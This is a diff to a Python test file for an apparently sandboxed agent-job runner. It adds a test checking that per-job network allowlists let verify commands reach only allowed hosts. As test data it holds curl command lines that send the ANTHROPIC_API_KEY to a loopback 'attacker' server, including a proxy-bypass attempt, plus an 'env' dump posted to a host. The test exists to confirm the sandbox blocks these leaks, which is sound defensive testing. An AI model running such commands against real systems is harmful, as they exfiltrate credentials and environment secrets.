@@ -13,6 +13,7 @@ import subprocess
 import threading
 import uuid
 from collections.abc import Iterator
+from contextlib import contextmanager
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
@@ -64,14 +65,23 @@ class _Recorder(BaseHTTPRequestHandler):
         pass
 
 
-@pytest.fixture
-def attacker() -> Iterator[Attacker]:
+@contextmanager
+def serving() -> Iterator[Attacker]:
+    """A recording server on loopback for as long as the test needs it."""
     server = Attacker()
     thread = threading.Thread(target=server.serve_forever, daemon=True)
     thread.start()
-    yield server
-    server.shutdown()
-    server.server_close()
+    try:
+        yield server
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+@pytest.fixture
+def attacker() -> Iterator[Attacker]:
+    with serving() as server:
+        yield server
 
 
 def bash(command: str, **extra: Any) -> ToolCall:
@@ -196,4 +206,49 @@ async def test_without_bubblewrap_the_agent_never_runs(claude_code: Sortie, app_
     assert "bwrap" in (job.error or "")
     assert api(claude_code).calls_to(marker=marker) == [], "the agent never ran"
     assert len(claude_code.localfly.machines(app_name)) == 2, "retried on a new machine"
+    assert live(claude_code, app_name) == []
+
+
+async def test_verify_reaches_the_jobs_allowed_hosts_and_nothing_else(
+    claude_code: Sortie, app_name: str, attacker: Attacker
+) -> None:
+    [key] = [v for n, v in claude_code.credentials.items() if n.startswith("ANTHROPIC_API_KEY")]
+    with serving() as registry:
+        # The allowed host is `localhost`; the attacker is on the same loopback, as 127.0.0.1.
+        allowed = registry.url.replace("127.0.0.1", "localhost")
+        fetch = f'{PROXIED} "{allowed}/verify?$ANTHROPIC_API_KEY" | grep -qx reached'
+        post = f"env | {PROXIED} --data-binary @- {allowed}/env"
+        leak = f'"{attacker.url}/verify?$ANTHROPIC_API_KEY"'
+        # Through the proxy as a request, as a CONNECT tunnel, and around it.
+        denied = (
+            f"{PROXIED} -p {leak}; curl -s -m 5 --noproxy '*' {leak}; "
+            f'out=$({PROXIED} {leak}); echo "$out"; test "$out" = reached'
+        )
+        # With the network open, the check reaches a host that no allowlist names.
+        anywhere = f"{PROXIED} {registry.url}/open | grep -qx reached"
+        script = api(claude_code).script(bash(f"{PROXIED} {allowed}/agent"))
+        network = {"allow": ["localhost"]}
+        jobs: list[dict[str, Any]] = [
+            {"id": "allowed", "prompt": f"Fetch {script}", "network": network, "verify": fetch},
+            {"id": "env", "prompt": "Look", "network": network, "verify": post},
+            {"id": "denied", "prompt": "Look", "network": network, "verify": denied},
+            {"id": "open", "prompt": "Look", "network": "open", "verify": anywhere},
+        ]
+        spec = claude_spec(app_name, jobs, defaults={"max_iterations": 1})
+        report = await run_batch(claude_code, spec)
+    by_id = {r.job_id: r for r in report.results}
+    for job in ("allowed", "env", "open"):
+        assert by_id[job].state == "succeeded", (job, by_id[job].error, by_id[job].log_tail)
+    refused = by_id["denied"]
+    assert (refused.state, refused.error_kind) == ("failed", "verify_failed"), refused.error
+    assert "127.0.0.1 is not in this job's network allowlist" in (refused.error or "")
+    assert any("the network refused 127.0.0.1" in line for line in refused.log_tail)
+    assert attacker.connections == 0, attacker.requests
+    # The agent's commands and the check reach the allowed host by the same allowlist; the
+    # check had no credential to send it; with the network open, the check reaches any host.
+    paths = sorted(request.split(" ", 2)[1] for request in registry.requests)
+    assert paths == ["/agent", "/env", "/open", "/verify"], registry.requests
+    [env] = [request for request in registry.requests if request.startswith("POST /env")]
+    assert "PATH=" in env and "ANTHROPIC_API_KEY" not in env
+    assert not any(key in request for request in registry.requests)
     assert live(claude_code, app_name) == []
